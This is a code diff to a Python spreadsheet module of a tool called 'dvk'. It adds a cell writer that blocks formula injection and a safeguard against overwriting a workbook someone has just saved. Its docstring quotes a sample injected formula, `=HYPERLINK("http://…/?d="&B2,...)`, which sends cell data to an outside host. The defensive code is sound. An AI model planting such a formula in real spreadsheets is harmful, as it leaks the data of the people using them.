@@ -8,13 +8,17 @@ from __future__ import annotations
 
 import copy
 import functools
-from collections.abc import Callable
+from collections.abc import Callable, Iterable
 from pathlib import Path
-from typing import TYPE_CHECKING, Any
+from typing import TYPE_CHECKING, Any, TypeVar
 
 from pipeline import lazy
+from pipeline.discover import sha256_file
 from pipeline.model import DvkError
 from pipeline.platform import files
+from pipeline.vntext import neutralise
+
+T = TypeVar("T")
 
 if TYPE_CHECKING:
     from openpyxl import Workbook
@@ -24,6 +28,7 @@ if TYPE_CHECKING:
 openpyxl = lazy.module("openpyxl")
 styles = lazy.module("openpyxl.styles")
 xlsx_utils = lazy.module("openpyxl.utils")
+cell_class = lazy.module("openpyxl.cell")
 
 
 @functools.cache
@@ -67,6 +72,27 @@ def open_workbook(path: Path, read_only: bool = False) -> Workbook:
         ) from exc
 
 
+def put(cell: Cell, value: object) -> Cell:
+    """Write `value` into `cell`: the one way dvk writes a cell whose text may come from a file, a name
+    or a certificate. Such text is stored as text, never as a formula: openpyxl stores any text starting
+    with "=" as a formula, and `=HYPERLINK("http://…/?d="&B2,"Xem")` as a model's name would run in the
+    secretariat's Excel or LibreOffice (text starting with "+", "-" or "@" is text already). Control and
+    bidirectional characters are neutralised as everywhere dvk shows text (`vntext.neutralise`)."""
+    if isinstance(value, str):
+        value = neutralise(value)
+        cell.value = value
+        if cell.data_type == "f":
+            cell.data_type = "s"
+    else:
+        cell.value = value
+    return cell
+
+
+def text_cells(sheet: Any, values: Iterable[object]) -> list[Cell]:
+    """`values` as cells for `sheet.append` (normal or write-only sheet), each written by `put`."""
+    return [put(cell_class.WriteOnlyCell(sheet), value) for value in values]
+
+
 def style_like(cell: Cell, sample: Cell) -> Cell:
     """Give `cell` the styles of `sample`. Assigning a font or alignment makes openpyxl hash the style
     object for every cell, which took most of the time of writing a province-scale sheet; copying the
@@ -77,3 +103,46 @@ def style_like(cell: Cell, sample: Cell) -> Cell:
 
 def save_atomically(workbook: Workbook, path: Path, before_replace: Callable[[], None] | None = None) -> None:
     files.write_atomically(path, workbook.save, ".xlsx", before_replace)
+
+
+# ---------------------------------------------------------------------------- never over a person's save
+
+WRITE_ATTEMPTS = 3
+
+
+class WorkbookMoved(Exception):
+    """The workbook on disk changed after dvk read it: that write is dropped and the update redone."""
+
+
+def file_stamp(path: Path) -> tuple[int, int, str] | None:
+    """Size, time and content hash of the file (None when there is none): what version dvk read."""
+    try:
+        stat = path.stat()
+    except FileNotFoundError:
+        return None
+    return stat.st_size, stat.st_mtime_ns, sha256_file(path)
+
+
+def redo_if_moved(
+    path: Path, write: Callable[[Callable[[], None]], T], book: str, then: str
+) -> tuple[T, tuple[int, int, str] | None]:
+    """`write(before_replace)` a workbook people edit, never replacing a version dvk has not read: just
+    before the new file takes the old one's place, `before_replace` compares the file on disk with the
+    version read; if a person saved meanwhile, the write is dropped and done again on their version.
+    Returns what `write` returned and the stamp of the version it was made from. `book` names the
+    workbook, `then` says what to do when saves keep landing (the message says nothing was written)."""
+    for _ in range(WRITE_ATTEMPTS):
+        seen = file_stamp(path)
+
+        def unchanged_since_read(seen: tuple | None = seen) -> None:
+            if file_stamp(path) != seen:
+                raise WorkbookMoved
+
+        try:
+            return write(unchanged_since_read), seen
+        except WorkbookMoved:
+            continue
+    raise DvkError(
+        f"{book} {path} được lưu lại nhiều lần trong lúc dvk ghi; dvk chưa ghi gì để không đè lên "
+        f"chỉnh sửa của người dùng. {then}"
+    )
